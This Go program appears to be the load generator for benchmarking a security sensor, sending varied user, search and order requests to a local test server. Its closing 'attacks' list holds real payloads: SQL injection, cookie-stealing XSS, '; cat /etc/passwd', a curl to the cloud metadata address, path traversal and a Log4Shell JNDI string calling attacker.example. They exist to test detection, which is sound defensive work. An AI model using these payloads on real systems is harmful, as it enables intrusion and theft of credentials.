// Command benchclient is the load generator of testdata/bench-gen.sh's "diverse" capture
// (testdata/bench/http-diverse.pcap). hey, which makes http-bench.pcap, repeats one request
// per run: that capture holds a few dozen distinct parameter values, so detectors that
// remember values found clean run almost for free on it. Real API traffic is not like that:
// ids, search terms, request ids, tokens, names and notes change from one request to the
// next. This client sends the same three benchserver endpoints with values drawn afresh for
// every request, so that replaying the capture measures what detection costs on values the
// sensor has not seen before.
//
// Each of -c workers holds one keep-alive connection (its own transport) and acts as one API
// client: a user agent, a bearer token and a language of its own, rotated every few hundred
// requests as if a new client took its place. Every request draws:
//
//	GET  /api/v1/users/{id}?fields=...      one of the identity's 1-30 ids, 1 in 20 any id (every
//	                                        13th and past 500000 answer 404)
//	GET  /api/v1/search?q=...&page=&sort=   two to four words, some with apostrophes or hyphens
//	POST /api/v1/orders                     1..5 items, a customer name and address, a note
//
// plus a fresh X-Request-Id. About -attack-rate of requests carry an SQLi, XSS, command
// injection or traversal probe in a parameter, so detectors have something to find. The
// sequence of each worker is fixed by -seed; only the interleaving varies between runs.
//
// It is test scaffolding, not part of the sensor.
package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/url"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

func main() {
	base := flag.String("base", "http://127.0.0.1:8080", "benchserver base URL")
	n := flag.Int("n", 10000, "requests to send in all")
	c := flag.Int("c", 32, "workers, one keep-alive connection each")
	rate := flag.Int("rate", 0, "requests per second in all; 0 is unlimited")
	duration := flag.Duration("duration", 5*time.Minute, "stop after this long even if -n is not reached")
	seed := flag.Uint64("seed", 1, "seed of the request sequence")
	attackRate := flag.Float64("attack-rate", 0.005, "share of requests carrying an attack probe")
	flag.Parse()
	if *n < 1 || *c < 1 || *rate < 0 || *attackRate < 0 || *attackRate > 1 {
		fmt.Fprintln(os.Stderr, "benchclient: -n and -c must be positive, -rate at least 0, -attack-rate in [0, 1]")
		os.Exit(2)
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	ctx, cancel := context.WithTimeout(ctx, *duration)
	defer cancel()

	var sent, probes atomic.Int64
	statuses := make([]atomic.Int64, 6) // by hundreds: 1xx..5xx, and transport errors at 0
	// Each worker sends one request every interval: -rate in all.
	var interval time.Duration
	if *rate > 0 {
		interval = time.Duration(float64(time.Second) * float64(*c) / float64(*rate))
	}
	var wg sync.WaitGroup
	start := time.Now()
	for w := range *c {
		quota := *n / *c
		if w < *n%*c {
			quota++
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			cl := newClient(*base, rand.New(rand.NewPCG(*seed, uint64(w))), *attackRate, &probes)
			defer cl.http.CloseIdleConnections()
			next := time.Now()
			for range quota {
				if ctx.Err() != nil {
					return
				}
				if interval > 0 {
					next = next.Add(interval)
					if d := time.Until(next); d > 0 {
						select {
						case <-time.After(d):
						case <-ctx.Done():
							return
						}
					}
				}
				status, err := cl.do(ctx)
				sent.Add(1)
				if err != nil {
					statuses[0].Add(1)
					continue
				}
				statuses[min(status/100, 5)].Add(1)
			}
		}()
	}
	wg.Wait()
	el := time.Since(start)
	fmt.Printf("sent %d requests in %.1fs (%.0f/s), %d with a probe: 2xx %d, 4xx %d, 5xx %d, errors %d\n",
		sent.Load(), el.Seconds(), float64(sent.Load())/el.Seconds(), probes.Load(),
		statuses[2].Load(), statuses[4].Load(), statuses[5].Load(), statuses[0].Load())
	if sent.Load() > 0 && statuses[0].Load()*100 > sent.Load() {
		os.Exit(1) // more than 1% transport errors: the capture would not be the load asked for
	}
}

// client is one worker: one connection and one API client identity at a time.
type client struct {
	base       string
	http       *http.Client
	rnd        *rand.Rand
	attackRate float64
	probes     *atomic.Int64 // requests sent with a probe, over all workers
	// identity, rotated every few hundred requests: the user profiles it
	// looks at are its own and a few others'
	agent, token, lang string
	users              []int
	left               int
}

func newClient(base string, rnd *rand.Rand, attackRate float64, probes *atomic.Int64) *client {
	tr := &http.Transport{
		MaxIdleConns:        1,
		MaxIdleConnsPerHost: 1,
		MaxConnsPerHost:     1,
		IdleConnTimeout:     30 * time.Second,
		DisableCompression:  rnd.IntN(2) == 0,
	}
	return &client{base: base, http: &http.Client{Transport: tr, Timeout: 10 * time.Second}, rnd: rnd, attackRate: attackRate, probes: probes}
}

func (c *client) do(ctx context.Context) (int, error) {
	if c.left == 0 {
		c.rotate()
	}
	c.left--
	attack := c.rnd.Float64() < c.attackRate
	if attack {
		c.probes.Add(1)
	}
	var req *http.Request
	var err error
	switch k := c.rnd.IntN(10); {
	case k < 4:
		req, err = c.user(ctx, attack)
	case k < 8:
		req, err = c.search(ctx, attack)
	default:
		req, err = c.order(ctx, attack)
	}
	if err != nil {
		return 0, err
	}
	req.Header.Set("User-Agent", c.agent)
	req.Header.Set("Accept", "application/json")
	req.Header.Set("Accept-Language", c.lang)
	req.Header.Set("Authorization", "Bearer "+c.token)
	req.Header.Set("X-Request-Id", uuid(c.rnd))
	resp, err := c.http.Do(req)
	if err != nil {
		return 0, err
	}
	_, err = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode, err
}

// rotate gives the worker a new client identity: agent, language and a JWT-shaped token
// with its own subject and issue time.
func (c *client) rotate() {
	c.left = 200 + c.rnd.IntN(400)
	c.agent = pick(c.rnd, agents)
	if strings.Contains(c.agent, "%d") {
		c.agent = fmt.Sprintf(c.agent, 100+c.rnd.IntN(30))
	}
	c.lang = pick(c.rnd, languages)
	c.users = c.users[:0]
	for range 1 + c.rnd.IntN(30) {
		c.users = append(c.users, 1+c.rnd.IntN(520_000))
	}
	claims := fmt.Sprintf(`{"sub":"usr_%x","iat":%d,"scope":"orders:write catalog:read","tenant":"%s"}`,
		c.rnd.Uint64(), 1_760_000_000+c.rnd.IntN(10_000_000), pick(c.rnd, tenants))
	sig := make([]byte, 32)
	for i := range sig {
		sig[i] = byte(c.rnd.Uint32())
	}
	enc := base64.RawURLEncoding
	c.token = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + enc.EncodeToString([]byte(claims)) + "." + enc.EncodeToString(sig)
}

func (c *client) user(ctx context.Context, attack bool) (*http.Request, error) {
	// Mostly the identity's own profiles; now and then one it follows a
	// link to. A client walking many ids is a scraper, which the
	// behavioural engine reports (enumeration), and not this traffic.
	uid := pick(c.rnd, c.users)
	if c.rnd.IntN(20) == 0 {
		uid = 1 + c.rnd.IntN(520_000)
	}
	id := strconv.Itoa(uid)
	q := url.Values{}
	if c.rnd.IntN(2) == 0 {
		q.Set("fields", strings.Join(sample(c.rnd, userFields, 2+c.rnd.IntN(4)), ","))
	}
	if c.rnd.IntN(4) == 0 {
		q.Set("include", pick(c.rnd, []string{"orders", "addresses", "orders,addresses", "preferences"}))
	}
	if attack {
		if c.rnd.IntN(2) == 0 {
			id = url.PathEscape(pick(c.rnd, attacks))
		} else {
			q.Set("fields", pick(c.rnd, attacks))
		}
	}
	u := c.base + "/api/v1/users/" + id
	if len(q) > 0 {
		u += "?" + q.Encode()
	}
	return http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
}

func (c *client) search(ctx context.Context, attack bool) (*http.Request, error) {
	q := url.Values{}
	terms := sample(c.rnd, searchWords, 2+c.rnd.IntN(3))
	q.Set("q", strings.Join(terms, " "))
	q.Set("page", strconv.Itoa(1+c.rnd.IntN(6)))
	if c.rnd.IntN(2) == 0 {
		q.Set("sort", pick(c.rnd, []string{"price", "-price", "rating", "-rating", "newest", "relevance"}))
	}
	if c.rnd.IntN(3) == 0 {
		lo := 5 * c.rnd.IntN(40)
		q.Set("price_min", strconv.Itoa(lo))
		q.Set("price_max", strconv.Itoa(lo+10+5*c.rnd.IntN(60)))
	}
	if c.rnd.IntN(3) == 0 {
		q.Set("category", pick(c.rnd, categories))
	}
	if c.rnd.IntN(4) == 0 {
		q.Set("session", fmt.Sprintf("%016x", c.rnd.Uint64()))
	}
	if attack {
		q.Set("q", pick(c.rnd, attacks))
	}
	return http.NewRequestWithContext(ctx, http.MethodGet, c.base+"/api/v1/search?"+q.Encode(), nil)
}

type orderItem struct {
	SKU      string  `json:"sku"`
	Quantity int     `json:"quantity"`
	Price    float64 `json:"price"`
}

type address struct {
	Street   string `json:"street"`
	City     string `json:"city"`
	Postcode string `json:"postcode"`
	Country  string `json:"country"`
}

type order struct {
	CustomerID      int         `json:"customer_id"`
	Items           []orderItem `json:"items"`
	Currency        string      `json:"currency"`
	ShippingAddress address     `json:"shipping_address"`
	CouponCode      string      `json:"coupon_code,omitempty"`
	Note            string      `json:"note,omitempty"`
}

func (c *client) order(ctx context.Context, attack bool) (*http.Request, error) {
	o := order{
		CustomerID: 1 + c.rnd.IntN(500_000),
		Currency:   pick(c.rnd, []string{"EUR", "USD", "GBP", "SEK", "PLN", "CHF"}),
		ShippingAddress: address{
			Street:   fmt.Sprintf("%d %s", 1+c.rnd.IntN(240), pick(c.rnd, streets)),
			City:     pick(c.rnd, cities),
			Postcode: fmt.Sprintf("%05d", c.rnd.IntN(100_000)),
			Country:  pick(c.rnd, []string{"FR", "DE", "PT", "PL", "BE", "IT", "CZ", "FI", "IE", "NL"}),
		},
	}
	o.Items = make([]orderItem, 1+c.rnd.IntN(5))
	for i := range o.Items {
		o.Items[i] = orderItem{
			SKU:      fmt.Sprintf("SKU-%06d", c.rnd.IntN(1_000_000)),
			Quantity: 1 + c.rnd.IntN(4),
			Price:    float64(100+c.rnd.IntN(30_000)) / 100,
		}
	}
	if c.rnd.IntN(4) == 0 {
		o.CouponCode = fmt.Sprintf("%s-%d", pick(c.rnd, []string{"SPRING", "WELCOME", "VIP", "BLACKFRIDAY", "SUMMER"}), 5*(1+c.rnd.IntN(8)))
	}
	if c.rnd.IntN(2) == 0 {
		o.Note = fmt.Sprintf(pick(c.rnd, notes), pick(c.rnd, names), 1+c.rnd.IntN(90))
	}
	if attack {
		switch c.rnd.IntN(3) {
		case 0:
			o.Note = pick(c.rnd, attacks)
		case 1:
			o.ShippingAddress.Street = pick(c.rnd, attacks)
		default:
			o.CouponCode = pick(c.rnd, attacks)
		}
	}
	// A buffer per request: the transport may still read the last body
	// after Do returned, when the server answered before reading it.
	body, err := json.Marshal(o)
	if err != nil {
		return nil, fmt.Errorf("encode order: %w", err)
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, c.base+"/api/v1/orders", bytes.NewReader(body))
	if err != nil {
		return nil, err
	}
	req.Header.Set("Content-Type", "application/json")
	return req, nil
}

func pick[T any](rnd *rand.Rand, xs []T) T { return xs[rnd.IntN(len(xs))] }

// sample returns k distinct elements of xs in random order.
func sample(rnd *rand.Rand, xs []string, k int) []string {
	idx := rnd.Perm(len(xs))[:min(k, len(xs))]
	out := make([]string, len(idx))
	for i, j := range idx {
		out[i] = xs[j]
	}
	return out
}

func uuid(rnd *rand.Rand) string {
	a, b := rnd.Uint64(), rnd.Uint64()
	a = a&^0xf000 | 0x4000 // version 4
	b = b&^(3<<62) | 1<<63 // variant 10
	return fmt.Sprintf("%08x-%04x-%04x-%04x-%012x", a>>32, a>>16&0xffff, a&0xffff, b>>48, b&0xffffffffffff)
}

var (
	agents = []string{
		"python-requests/2.31.0", "python-requests/2.32.3", "Go-http-client/1.1", "okhttp/4.12.0",
		"curl/8.5.0", "axios/1.7.2", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
		"Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%[1]d.0",
		"ShopApp/5.12.%d (iPhone; iOS 17.5; Scale/3.00)", "ShopApp/5.12.%d (Android 14; Pixel 8)",
		"Apache-HttpClient/4.5.14 (Java/17.0.10)", "Java/21.0.2", "aiohttp/3.9.5", "Ruby", "PostmanRuntime/7.39.0",
	}
	languages   = []string{"en-US,en;q=0.9", "fr-FR,fr;q=0.9,en;q=0.8", "de-DE,de;q=0.9", "pt-PT", "pl-PL,pl;q=0.9,en-US;q=0.7", "nl-BE,nl;q=0.9,fr;q=0.8,en;q=0.6", "it-IT"}
	tenants     = []string{"acme-eu", "globex", "initech", "umbrella-retail", "hooli", "stark-industries"}
	userFields  = []string{"id", "name", "email", "created_at", "recent_orders", "loyalty_tier", "addresses", "phone", "locale", "marketing_opt_in"}
	categories  = []string{"kitchen", "outdoor", "electronics", "garden", "sports", "office", "toys", "books", "home & living", "health/beauty"}
	searchWords = []string{
		"lamp", "kettle", "keyboard", "backpack", "headphones", "notebook", "planter", "bicycle", "chess", "garden hose",
		"usb-c cable", "running shoes", "coffee grinder", "desk chair", "wireless mouse", "yoga mat", "men's", "women's",
		"kids'", "waterproof", "stainless steel", "4k", "hdmi 2.1", "oak", "linen", "2-person", "tent", "sleeping bag",
		"cast-iron", "pan", "espresso", "drip", "vacuum", "robot", "air fryer", "rice cooker", "lego", "puzzle", "1000 pieces",
		"board game", "mechanical", "ergonomic", "standing desk", "monitor arm", "27\"", "usb hub", "sd card", "128gb",
		"blue", "black", "red", "green", "xl", "small", "cheap", "best", "gift", "for dad", "under 50", "o'neill", "levi's",
		"rock & roll", "t-shirt", "hoodie", "jeans", "sneakers", "boots", "rain jacket", "umbrella", "sunglasses", "watch",
		"table lamp", "from japan", "where to buy", "and", "or", "not", "like new", "order",
	}
	names = []string{
		"Jane O'Neil", "Aoife Ní Bhriain", "Zoë Dupont", "José Álvarez", "Łukasz Nowak", "Émile D'Arcy", "Mary-Kate Smith",
		"Jürgen Groß", "Siobhan O'Connor", "Tomás Ó Súilleabháin", "Anne-Sophie Martin", "Dmitri Ivanov", "Søren Kierkegaard",
	}
	notes = []string{
		"Please leave the parcel with %s at number %d if nobody answers.",
		"Gift for %s, please no invoice in the box (order ref %d).",
		"Ring twice; %s works nights. Flat %d, 3rd floor, no lift.",
		"Deliver to the back door <b>not</b> the shop front - ask for %s (bay %d).",
		"Call %s on arrival: the gate code is %d#.",
		"Can you combine with my previous order? Thanks, %s -- #%d",
		"%s says: \"if it's late, don't bother\" (left %d min ago).",
	}
	streets = []string{
		"Rue de la République", "Avenida da Liberdade", "Karl-Marx-Allee", "ul. Piotrkowska", "Via dell'Indipendenza",
		"Rue Neuve", "Hämeenkatu", "O'Connell Street", "Keizersgracht", "Vinohradská", "Boulevard Saint-Michel",
	}
	cities = []string{"Lyon", "Porto", "Leipzig", "Gdańsk", "Tampere", "Ghent", "Bologna", "Brno", "Cork", "Utrecht", "L'Aquila"}
	// The probes: libinjection and tier-1 families each have something here.
	attacks = []string{
		"' OR '1'='1", "1' UNION SELECT username,password FROM users-- ", "admin'--", "1 AND SLEEP(5)",
		"<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>", "; cat /etc/passwd",
		"$(curl http://169.254.169.254/latest/meta-data/)", "../../../../etc/passwd", "{{7*7}}",
		"${jndi:ldap://attacker.example/a}", "http://127.0.0.1:8080/admin", `{"$ne": null}`,
	}
)
